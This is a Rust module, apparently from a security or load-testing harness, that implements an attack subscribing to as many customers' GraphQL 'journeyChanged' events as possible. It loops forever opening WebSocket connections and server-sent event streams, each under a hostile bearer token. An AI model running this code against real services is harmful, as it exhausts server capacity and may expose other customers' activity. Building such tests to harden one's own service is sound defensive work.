//! An attack that subscribes to as many customers as possible.

use futures_util::StreamExt;
use serde_json::json;
use tokio::time::sleep;

use crate::attack::{Client, PAUSE};
use crate::target::HOSTILE;
use crate::transport::{Transport, open_as, send_message, subscribe};

const WATCH: &str =
    "subscription($id: ID!) { journeyChanged(customerId: $id) { kind session { id } } }";

/// Subscriptions on one WebSocket, and server-sent event streams of one client.
const SUBSCRIPTIONS: usize = 100;

pub(crate) async fn subscribe_to_many(client: &Client) {
    if client.transport == Transport::WebSocket {
        loop {
            let Some(mut socket) = open_as(client.from, client.to, HOSTILE).await else {
                sleep(PAUSE).await;
                continue;
            };
            for id in 0..SUBSCRIPTIONS {
                let message = subscribe(id, WATCH, &json!({"id": client.customer()}));
                if send_message(&mut socket, &message).await.is_none() {
                    break;
                }
                client.count();
            }
            while let Some(Ok(_)) = socket.next().await {}
        }
    }
    let http = reqwest::Client::builder().local_address(std::net::IpAddr::V4(client.from));
    let http = match client.transport {
        Transport::Http2 => http.http2_prior_knowledge(),
        _ => http.http1_only(),
    };
    let http = http.build().unwrap();
    let mut streams = Vec::new();
    loop {
        let request = http
            .post(format!("http://{}/graphql", client.to))
            .bearer_auth(HOSTILE)
            .header("accept", "text/event-stream")
            .json(&json!({"query": WATCH, "variables": {"id": client.customer()}}));
        client.count();
        if let Ok(response) = request.send().await {
            streams.push(response);
        }
        if streams.len() > SUBSCRIPTIONS {
            streams.remove(0);
        }
        sleep(PAUSE).await;
    }
}
